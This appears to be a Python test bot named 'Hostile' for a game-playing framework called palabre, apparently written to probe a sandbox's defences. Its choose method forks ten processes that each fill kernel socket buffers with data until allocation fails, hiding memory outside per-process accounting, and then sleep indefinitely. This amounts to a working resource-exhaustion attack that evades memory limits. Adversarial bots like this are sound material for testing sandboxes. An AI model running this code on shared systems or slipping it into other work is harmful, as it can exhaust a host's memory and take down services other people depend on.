"""Hides memory in full socket pairs, which the kernel holds and no process, and asks for larger ones."""

import contextlib
import os
import socket
import time

from palabre import Bot


def fill():
    held = []
    with contextlib.suppress(OSError):
        while True:
            held += socket.socketpair()
            for end in held[-2:]:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(bytes(65536))
    return held


class Hostile(Bot):
    def choose(self, position, clock):
        for _ in range(10):
            if os.fork() == 0:
                held = fill()
                time.sleep(1e6)
                held.clear()
        time.sleep(1e6)
